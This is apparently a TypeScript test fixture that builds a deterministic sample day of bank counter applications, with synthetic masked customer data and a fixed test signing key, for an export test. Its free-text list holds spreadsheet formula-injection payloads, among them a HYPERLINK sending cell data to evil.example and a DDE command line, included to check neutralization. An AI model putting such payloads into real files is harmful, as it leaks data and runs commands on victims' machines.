// A business day to export, the same on every run: the crash test compares its bytes across processes.
import { createHash, createPrivateKey, type KeyObject } from 'node:crypto';
import { syntheticRandom } from '../../../shared';
import type { DayExportMeta, DayExportRow, FullDataRow } from '../../../electron/core/dayclose/exportModel';

export const SAMPLE_META: DayExportMeta = {
  bankName: '中国示例银行股份有限公司',
  branchCode: '110105001',
  desk: '03',
  branchName: '北京朝阳支行营业部',
  businessDate: '2026-11-25',
  generatedAt: '2026-11-25T09:30:00.000Z',
  generatedAtLocal: '2026-11-25 17:30:00',
  operatorNo: 'S0001',
  batch: 1,
  auditHead: { seq: 4711, hash: 'a3'.repeat(32), signature: 'c2lnbmF0dXJlLW9mLXRoZS1hdWRpdC1oZWFk' },
};

// RFC 8410 PKCS#8 wrapping of a raw Ed25519 seed: a fixed key, so signatures repeat across runs.
const ED25519_PKCS8_PREFIX = Buffer.from('302e020100300506032b657004220420', 'hex');

export function sampleSigningKey(label = 'unbinddesk day bundle test key'): KeyObject {
  const seed = createHash('sha256').update(label).digest();
  return createPrivateKey({ key: Buffer.concat([ED25519_PKCS8_PREFIX, seed]), format: 'der', type: 'pkcs8' });
}

export interface SampleDay {
  rows: DayExportRow[];
  fullData: FullDataRow[];
}

const SURNAMES = ['张', '王', '李', '赵', '欧阳', '陈', '刘', '司马'];
const DOCUMENT_TYPES = ['resident_id', 'resident_id', 'resident_id', 'resident_id', 'hmt_residence_permit', 'passport', 'hk_mo_travel_permit', 'foreign_permanent_resident'];
const STATUSES: DayExportRow['status'][] = ['completed', 'completed', 'completed', 'completed', 'completed', 'rejected', 'cancelled', 'carried_over'];
const REASONS = ['no_longer_needed', 'switch_payment_method', 'security_concern', 'phone_changed', 'other'];
const CHECKS = ['match', 'match', 'match', 'match', 'name_mismatch', 'no_such_number'];
// What a customer might dictate, and what a spreadsheet would run as a formula if it were not neutralized.
const FREE_TEXTS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点此")',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1,2)',
  '＝１＋１',
  '\t制表符开头',
  '店铺已转让, 不再经营',
  '他说"不用了"\r\n第二行',
  '店主出国',
];

/** Deterministic pseudo-random 32-bit numbers (no Math.random in fixtures). */
function sequence(seed: number): () => number {
  const random = syntheticRandom(seed);
  return () => Math.floor(random() * 4294967296);
}

function pick<T>(next: () => number, list: readonly T[]): T {
  return list[next() % list.length] as T;
}

const pad = (n: number, width: number) => String(n).padStart(width, '0');

export function sampleDay(count: number, seed = 20261125): SampleDay {
  const next = sequence(seed);
  const rows: DayExportRow[] = [];
  const fullData: FullDataRow[] = [];
  for (let i = 0; i < count; i++) {
    const applicationNumber = `UD20261125${pad(i + 1, 6)}`;
    const surname = pick(next, SURNAMES);
    const documentType = pick(next, DOCUMENT_TYPES);
    const documentNumber = `1101051949${pad(next() % 100_000_000, 8)}`;
    const mobile = `13${pad(next() % 1_000_000_000, 9)}`;
    const newMobile = next() % 4 === 0 ? `15${pad(next() % 1_000_000_000, 9)}` : null;
    const status = pick(next, STATUSES);
    const manual = next() % 5 === 0;
    const onlineCheck = pick(next, CHECKS);
    const authorizationReasons = [
      ...(manual ? ['manual_entry'] : []),
      ...(onlineCheck !== 'match' ? ['online_check_exception'] : []),
      ...(documentType !== 'resident_id' ? ['non_resident_id_document'] : []),
    ];
    const reasonCode = pick(next, REASONS);
    const minute = 9 * 60 + Math.floor((i * 480) / Math.max(count, 1));
    const createdAt = `2026-11-25 ${pad(Math.floor(minute / 60), 2)}:${pad(minute % 60, 2)}:${pad(next() % 60, 2)}`;
    const merchantNumber = `${pad(next() % 1_000_000_000, 9)}${pad(next() % 1_000_000, 6)}`;
    const terminalId = pad(next() % 100_000_000, 8);
    const terminalSerial = `000${pad(next() % 1_000_000_000, 9)}${pad(next() % 1_000_000, 6)}`;
    rows.push({
      applicationNumber,
      ticketNo: i + 1,
      status,
      channel: 'counter',
      createdAt,
      completedAt: status === 'completed' ? createdAt : null,
      applicantNameMasked: `${surname}${'*'.repeat(1 + (next() % 2))}`,
      documentType,
      documentNumberMasked: `${documentNumber.slice(0, 4)}${'*'.repeat(10)}${documentNumber.slice(-4)}`,
      mobileMasked: `${mobile.slice(0, 3)}****${mobile.slice(-4)}`,
      newMobileMasked: newMobile ? `${newMobile.slice(0, 3)}****${newMobile.slice(-4)}` : null,
      merchantNumber,
      terminalId,
      terminalSerial,
      reasonCode,
      reasonText: reasonCode === 'other' || next() % 7 === 0 ? pick(next, FREE_TEXTS) : null,
      verificationMethod: manual ? 'manual' : 'chip',
      chipSamId: manual ? null : '05.01-20101216-0016541549-2212183410',
      onlineCheck,
      // Half the day checked online (with the middleware's serial), half keyed by the teller.
      ...(next() % 2 === 0
        ? { onlineCheckSource: 'online' as const, onlineCheckCode: onlineCheck === 'match' ? '01' : onlineCheck === 'name_mismatch' ? '02' : '03', onlineCheckSerial: `GAB${pad(next() % 100000, 12)}` }
        : { onlineCheckSource: 'keyed' as const, onlineCheckCode: null, onlineCheckSerial: null }),
      authorizationReasons,
      // Carried over undecided, or decided by a supervisor (a declined one ends rejected).
      authorizationDecision: authorizationReasons.length === 0 ? null : status === 'carried_over' ? 'pending' : status === 'rejected' ? 'declined' : 'approved',
      authorizerNo: authorizationReasons.length > 0 && status !== 'carried_over' ? `S${pad(2 + (next() % 3), 4)}` : null,
      tellerNo: `T${pad(11 + (next() % 6), 4)}`,
      printCount: status === 'completed' ? 1 + (next() % 9 === 0 ? 1 : 0) : 0,
      rejectReason: status === 'rejected' ? '联网核查不一致，客户无法提供原手机' : null,
    });
    fullData.push({ applicationNumber, documentType, documentNumber, mobile, newMobile, merchantNumber, terminalId, terminalSerial });
  }
  return { rows, fullData };
}
